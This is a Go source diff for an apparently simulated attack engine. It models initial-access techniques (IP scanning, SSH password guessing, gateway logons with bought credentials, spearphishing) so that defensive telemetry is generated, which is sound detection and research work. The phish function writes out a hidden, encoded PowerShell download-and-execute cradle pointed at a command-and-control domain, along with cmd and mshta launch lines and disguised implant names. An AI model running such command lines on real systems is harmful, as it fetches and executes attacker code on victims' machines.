@@ -1,0 +1,231 @@
+package technique
+
+import (
+	"errors"
+	"fmt"
+	"slices"
+	"time"
+
+	"hemostat/sim"
+	"hemostat/sim/world"
+)
+
+var initialAccess = []*Technique{
+	{
+		ID: "T1595.001", Name: "Active Scanning: Scanning IP Blocks", Tactic: "reconnaissance", Platforms: []string{"network"},
+		Needs: "an address on the internet", Effect: "hosts that answer on a port are known",
+		Telemetry: []string{"zeek/conn"}, Tools: []string{"masscan", "slow scan"}, Takes: sim.LogNormal(time.Minute, 0.6), Success: 0.99,
+		run: scanFromOutside,
+	},
+	{
+		ID: "T1110.001", Name: "Brute Force: Password Guessing", Tactic: "credential-access", Platforms: []string{"linux"},
+		Needs: "an SSH server that can be reached", Effect: "a session on a host with a guessable password",
+		Telemetry: []string{"linux/sshd", "zeek/conn"}, Achieves: "control", Tools: []string{"hydra", "medusa", "patient script"}, Takes: sim.LogNormal(20*time.Second, 0.5), Success: 1,
+		ready: func(s *State) error {
+			if !slices.ContainsFunc(s.Known, sshServer) {
+				return errors.New("no SSH server found yet")
+			}
+			return nil
+		},
+		run: guessPasswords,
+	},
+	{
+		ID: "T1078", Name: "Valid Accounts", Tactic: "initial-access", Platforms: []string{"windows"},
+		Needs: "a password bought or phished before, and the remote desktop gateway", Effect: "a session at the owner's workstation",
+		Telemetry: []string{"windows/security 4624", "zeek/conn", "zeek/ssl"}, Tools: []string{"remote desktop gateway"}, Takes: sim.LogNormal(2*time.Minute, 0.6), Success: 0.97,
+		run: logOnThroughGateway,
+	},
+	{
+		ID: "T1566.001", Name: "Phishing: Spearphishing Attachment", Tactic: "initial-access", Platforms: []string{"windows"},
+		Needs: "mail reaches people", Effect: "an implant in the session of somebody who opened the attachment (T1204.002)",
+		Telemetry: []string{"windows/sysmon 1 3 7 11 22", "windows/powershell", "zeek"}, Tools: []string{"macro", "lnk in zip", "one-note script"}, Takes: sim.LogNormal(40*time.Minute, 1), Success: 0.85,
+		run: phish,
+	},
+}
+
+func sshServer(h *world.Host) bool {
+	return slices.ContainsFunc(h.Ports, func(p world.Port) bool { return p.Number == 22 })
+}
+
+func scanFromOutside(a *Attempt) Progress {
+	w := a.World
+	candidates := slices.Clone(w.Hosts)
+	a.Rand.Shuffle(len(candidates), func(i, j int) { candidates[i], candidates[j] = candidates[j], candidates[i] })
+	at, gap := a.Now, 40*time.Millisecond
+	if a.Tool == "slow scan" {
+		gap = 4 * time.Second
+	}
+	var refusal world.Refusal
+	for _, h := range candidates {
+		if r := w.Permitted(a.Source(), world.At(h), 22); !r.OK() {
+			continue
+		}
+		at += time.Duration(float64(gap) * a.Rand.Exp())
+		open := sshServer(h)
+		if r := w.Reach(a.Source(), world.At(h), 22); !r.OK() {
+			refusal = r
+			continue
+		}
+		state := "REJ"
+		if open {
+			state = "RSTO"
+			a.learn(h)
+		}
+		w.Flow(at, a.Actor, world.Flow{From: a.Source(), To: world.At(h), Port: 22, Sent: 44, Received: 40, State: state})
+	}
+	if len(a.Known) == 0 {
+		if !refusal.OK() {
+			return blocked(refusal)
+		}
+		return failure("nothing answers on port 22")
+	}
+	return success("%d hosts answer on port 22", len(a.Known))
+}
+
+var guessable = []string{"root", "admin", "ubuntu", "oracle", "test", "deploy", "backup", "git", "postgres", "jenkins"}
+
+// guessPasswords makes one guess a round. A weak host falls after a number of
+// guesses that is drawn once per host; a strong one never does.
+func guessPasswords(a *Attempt) Progress {
+	w := a.World
+	if a.Target == nil {
+		a.Target = a.pick(&a.Rand, func(h *world.Host) bool { return sshServer(h) && !a.On(h) })
+		if a.Target == nil {
+			return failure("no SSH server left to try")
+		}
+		budget := a.Rand.For("budget " + a.Target.Name)
+		a.Count = int(budget.LogNormal(180, 0.9)) + 8
+		a.Bytes = uint64(budget.LogNormal(90, 1)) + 3 // guess that hits, on a weak host
+	}
+	if r := w.Reach(a.Source(), world.At(a.Target), 22); !r.OK() {
+		return blocked(r)
+	}
+	if a.Target.Decoy {
+		w.TouchDecoy(a.Now, a.Actor, a.Source(), a.Target, "4002")
+		a.Avoid[a.Target.Name] = true
+		return Progress{Done: true, Refusal: w.Decoyed(a.Target), Note: a.Target.Name + " was a decoy"}
+	}
+	name := sim.Pick(&a.Rand, guessable)
+	hit := a.Target.Weak && uint64(a.Round) >= a.Bytes
+	ok, r := w.SSH(a.Now, a.Actor, world.SSHAttempt{From: a.Source(), To: a.Target, User: name, Unknown: !hit && name != "root", Good: hit})
+	if ok {
+		a.gain(&Foothold{Host: a.Target, Address: a.Source().IP(), Port: 22, Since: a.Now, Elevated: name == "root"})
+		return success("logged on to %s as %s after %d guesses", a.Target.Name, name, a.Round+1)
+	}
+	if a.Round >= a.Count {
+		a.Avoid[a.Target.Name] = true
+		return Progress{Done: true, Refusal: onlyDefence(r), Note: fmt.Sprintf("%d guesses at %s without success", a.Round+1, a.Target.Name)}
+	}
+	mean := map[string]time.Duration{"hydra": time.Second, "medusa": 4 * time.Second, "patient script": 25 * time.Second}[a.Tool]
+	wait := time.Duration(float64(mean) * a.Slowdown * (0.4 + 0.6*a.Rand.Exp()))
+	if limit, action := w.RateLimit(a.Source().IP()); limit > wait {
+		if a.Rand.Bool(0.05 + 0.2*a.Skill) { // he notices that answers have become slow
+			return blocked(world.Refusal{Reason: "rate_limited", Action: action})
+		}
+		wait = limit
+	}
+	return again(wait)
+}
+
+func onlyDefence(r world.Refusal) world.Refusal {
+	if r.ByDefence() {
+		return r
+	}
+	return world.Refusal{}
+}
+
+func logOnThroughGateway(a *Attempt) Progress {
+	w := a.World
+	gateways := w.WithRole("cloud_gateway")
+	if len(gateways) == 0 {
+		return failure("there is no remote desktop gateway")
+	}
+	gateway := sim.Pick(&a.Rand, gateways)
+	victim := sim.Pick(&a.Rand, w.Accounts)
+	for i := 0; victim.Privilege != world.User || victim.MFA || victim.Home == nil; i++ {
+		if i > 4*len(w.Accounts) {
+			return failure("no account without a second factor is for sale")
+		}
+		victim = sim.Pick(&a.Rand, w.Accounts)
+	}
+	if r := w.Reach(a.Source(), world.At(gateway), 443); !r.OK() {
+		return blocked(r)
+	}
+	w.Flow(a.Now, a.Actor, world.Flow{From: a.Source(), To: world.At(gateway), Port: 443, Service: "ssl", Sent: 60e3, Received: 3e6, Duration: 15 * time.Minute})
+	w.TLS(a.Now, a.Actor, a.Source(), world.At(gateway), 443, "remote."+w.Domain, a.Hello, "CN=Public CA", "CN=remote."+w.Domain, true)
+	if r := w.Reach(world.At(gateway), world.At(victim.Home), 3389); !r.OK() {
+		return blocked(r)
+	}
+	a.steal(victim, false)
+	_, r := w.LogOn(a.Now+20*time.Second, a.Actor, world.Logon{From: world.At(gateway), To: victim.Home, Account: victim, Type: world.LogonRemote, Generation: victim.Generation, BadSecret: a.failed, Keep: true})
+	if !r.OK() {
+		return Progress{Done: true, Refusal: onlyDefence(r), Note: "the password of " + victim.Name + " was refused"}
+	}
+	a.implant(victim.Home, victim, nil, 0, "Medium")
+	return success("working at %s as %s", victim.Home.Name, victim.Name)
+}
+
+// implant leaves a program behind and begins to steer it.
+func (a *Attempt) implant(h *world.Host, who *world.Account, via *Foothold, port int, integrity string) *Foothold {
+	folder := `C:\ProgramData\`
+	if who != nil && integrity == "Medium" {
+		folder = `C:\Users\` + who.Name + `\AppData\Local\Temp\`
+	}
+	name := sim.Pick(&a.Rand, []string{"OneDriveUpdater.exe", "svcupdate.exe", "tmp4a1.exe", "teamsync.exe", "dbghost.exe"})
+	file := world.Dropped(folder+name, &a.Rand)
+	shell := &world.Process{Host: h, PID: 4000, Binary: world.PowerShell, CommandLine: "powershell.exe", Account: who, Integrity: integrity, GUID: "{00000000-0000-0000-0000-000000000fa0}"}
+	a.World.CreateFile(a.Now, a.Actor, shell, file.Path)
+	i := a.World.Plant(a.Now+2*time.Second, a.Actor, world.Start{Host: h, Account: who, Binary: file, CommandLine: `"` + file.Path + `"`, Integrity: integrity, Parent: shell})
+	i.Files = []string{file.Path}
+	f := &Foothold{Host: h, Account: who, Implant: i, Via: via, Port: port, Since: a.Now, Elevated: i.Elevated}
+	a.gain(f)
+	return f
+}
+
+func phish(a *Attempt) Progress {
+	w := a.World
+	if a.failed {
+		return failure("nobody opened the attachment")
+	}
+	var victim *world.Account
+	for i := 0; victim == nil || victim.Home == nil || victim.Privilege != world.User || a.On(victim.Home); i++ {
+		if i > 4*len(w.Accounts) {
+			return failure("nobody left to write to")
+		}
+		victim = sim.Pick(&a.Rand, w.Accounts)
+	}
+	h := victim.Home
+	downloads := `C:\Users\` + victim.Name + `\Downloads\`
+	office := &world.Process{Host: h, PID: 5120, Binary: world.Winword, CommandLine: `"` + world.Winword.Path + `" /n "` + downloads + `Invoice_2026.docm"`, Account: victim, Integrity: "Medium", GUID: "{00000000-0000-0000-0000-000000001400}"}
+	outlook := &world.Process{Host: h, PID: 4560, Binary: world.Outlook, CommandLine: `"` + world.Outlook.Path + `"`, Account: victim, Integrity: "Medium", GUID: "{00000000-0000-0000-0000-0000000011d0}"}
+	var launcher *world.Process
+	switch a.Tool {
+	case "macro":
+		w.CreateFile(a.Now, a.Actor, outlook, downloads+"Invoice_2026.docm")
+		word := w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Winword, CommandLine: office.CommandLine, Parent: outlook})
+		w.LoadImage(a.Now+6*time.Second, a.Actor, word, vbe)
+		launcher = word
+	case "lnk in zip":
+		w.CreateFile(a.Now, a.Actor, outlook, downloads+"Invoice_2026.zip")
+		explorer := &world.Process{Host: h, PID: 3300, Binary: world.Explorer, CommandLine: `C:\Windows\Explorer.EXE`, Account: victim, GUID: "{00000000-0000-0000-0000-000000000ce4}"}
+		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Cmd, CommandLine: `"C:\Windows\System32\cmd.exe" /c start /b powershell`, Parent: explorer})
+	default:
+		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Mshta, CommandLine: `"C:\Windows\System32\mshta.exe" "C:\Users\` + victim.Name + `\AppData\Local\Temp\OneNote\Invoice.hta"`, Parent: outlook})
+	}
+	c2 := a.C2()
+	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", c2.Domain)
+	shell := w.StartProcess(a.Now+8*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.PowerShell, CommandLine: `powershell.exe -nop -w hidden -enc ` + encoded(script), Parent: launcher})
+	w.RunScript(a.Now+9*time.Second, a.Actor, h, script)
+	w.Resolve(a.Now+9*time.Second, a.Actor, h, shell, c2.Domain, "A", c2.Address)
+	a.Hostile.MarkHost(h.Name)
+	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
+		return blocked(r)
+	}
+	w.Flow(a.Now+10*time.Second, a.Actor, world.Flow{From: world.At(h), To: c2, Port: 443, Service: "ssl", Process: shell, Sent: 2e3, Received: 400e3, Duration: 3 * time.Second})
+	w.TLS(a.Now+10*time.Second, a.Actor, world.At(h), c2, 443, c2.Domain, a.Hello, "CN="+c2.Domain, "CN="+c2.Domain, false)
+	a.Now += 15 * time.Second
+	a.implant(h, victim, nil, 0, "Medium")
+	return success("%s opened the attachment at %s", victim.Name, h.Name)
+}
+
+var vbe = &world.Binary{Path: `C:\Program Files\Microsoft Office\root\VFS\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`, OriginalName: "VBE7.DLL", Company: "Microsoft Corporation", Product: "Microsoft Office", Description: "Visual Basic Design Time Environment Library", Version: "7.01.1108", Signed: true}
